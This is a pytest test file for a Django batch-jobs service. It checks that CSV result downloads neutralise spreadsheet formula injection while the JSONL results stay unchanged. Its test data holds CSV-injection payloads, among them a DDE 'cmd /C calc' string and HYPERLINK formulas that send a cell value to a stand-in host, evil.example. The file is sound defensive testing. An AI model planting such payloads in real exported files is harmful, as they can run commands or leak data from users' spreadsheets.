"""A batch's results CSV carries nothing a spreadsheet would run: custom_ids, model output and errors that begin
like a formula (=, +, -, @, a tab, a carriage return) come out with a leading single quote, as OWASP's CSV
Injection page says, for the owner and for a lab admin alike; plain numbers stay numbers; and the JSONL results,
which are data rather than a spreadsheet, keep every value exactly as it was.

The model's output is real: the bundled model runs each line on the panel's own machine (a deployment with every
layer on the head), through the engine's own job loop, asked to write a formula."""

import csv
import io
import json

import pytest
from django.test import Client

from jobs.batches import output as batch_output
from jobs.batches import service as batches
from jobs.engine import loop
from jobs.models import Batch, JobStatus
from models_app.models import Deployment
from tests.jobs.conftest import engine_child_here, head_deployment

pytestmark = pytest.mark.timeout(300)

COPY = "You copy the user's text exactly."
FORMULA_PROMPTS = {  # custom_id: what the model is asked (greedy, it answers with a formula)
    "=cmd|' /C calc'!A0": "Write only this Excel formula and nothing else: =SUM(A1:A3)",
    "+1+1": "Reply with the single character @ followed by SUM(A1).",
    "-2+3": "Write only this Excel formula and nothing else: =HYPERLINK(\"http://evil.example/\",\"open\")",
    "@SUM(A1)": "Write only this Excel formula and nothing else: -2+3",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "Say hello.",
    "\t=1+1": "Say hello.",
    "\r=1+1": "Say hello.",
    "＝1+1": "Say hello.",
    "-2": "Say hello.",  # a plain number: left as it is
}
REJECTED_ID = "=2+5"  # its line is refused (no messages), and still has a row


def line(custom_id: str, prompt: str) -> str:
    body = {"messages": [{"role": "system", "content": COPY}, {"role": "user", "content": prompt}],
            "temperature": 0, "max_tokens": 2 if prompt == "Say hello." else 12}
    return json.dumps({"custom_id": custom_id, "method": "POST", "url": "/v1/chat/completions", "body": body})


@pytest.fixture
def on_the_head(transactional_db) -> Deployment:
    return head_deployment()


@pytest.fixture
def engine_here(on_the_head, monkeypatch):
    with engine_child_here(on_the_head, monkeypatch):
        yield


@pytest.fixture
def ran(on_the_head, engine_here, bob) -> Batch:
    lines = [line(custom_id, prompt) for custom_id, prompt in FORMULA_PROMPTS.items()]
    lines.append(json.dumps({"custom_id": REJECTED_ID, "method": "POST", "url": "/v1/chat/completions",
                             "body": {"messages": []}}))
    batch = batches.from_file(bob, on_the_head, "hostile.jsonl", "\n".join(lines).encode())
    loop.run(batch.items.first().pk)  # runs every waiting job of the deployment, one after another
    assert set(batch.items.values_list("status", flat=True)) == {JobStatus.SUCCEEDED}
    return batch


def download(user, batch: Batch, kind: str) -> str:
    client = Client()
    client.force_login(user)
    response = client.get(f"/jobs/batches/{batch.pk}/results.{kind}")
    assert response.status_code == 200
    return response.content.decode()


def spreadsheet_would_run(cell: str) -> bool:
    return cell[:1] in set("=+-@\t\r＝＋－＠") and not batch_output.PLAIN_NUMBER.fullmatch(cell)


def test_it_neutralises_every_formula_in_the_csv_for_the_owner_and_a_lab_admin(ran, bob, alice):
    outputs = {job.custom_id: job.output for job in ran.items.all()}
    formulas = [out for out in outputs.values() if spreadsheet_would_run(out)]
    assert len(formulas) >= 3, f"the model was to answer with formulas: {outputs}"
    for user in (bob, alice):
        rows = list(csv.DictReader(io.StringIO(download(user, ran, "csv"), newline="")))
        assert len(rows) == len(FORMULA_PROMPTS) + 1
        for row in rows:
            for name in ("custom_id", "output", "error", "status", "finish_reason"):
                assert not spreadsheet_would_run(row[name]), (user.username, name, row[name])
        by_id = {row["custom_id"]: row for row in rows}
        for custom_id, output in outputs.items():
            shown = f"'{custom_id}" if spreadsheet_would_run(custom_id) else custom_id
            expected = f"'{output}" if spreadsheet_would_run(output) else output
            assert by_id[shown]["output"] == expected, (custom_id, by_id[shown]["output"])
        assert by_id["-2"]["custom_id"] == "-2", "a plain negative number is not mangled"
        assert by_id[f"'{REJECTED_ID}"]["status"] == "rejected"


def test_it_keeps_the_jsonl_results_exactly_as_they_are(ran, bob, alice):
    outputs = {job.custom_id: job.output for job in ran.items.all()}
    for user in (bob, alice):
        rows = [json.loads(text) for text in download(user, ran, "jsonl").splitlines()]
        assert [row["custom_id"] for row in rows] == [*FORMULA_PROMPTS, REJECTED_ID]
        for row in rows[:-1]:
            assert row["response"]["body"]["choices"][0]["message"]["content"] == outputs[row["custom_id"]]
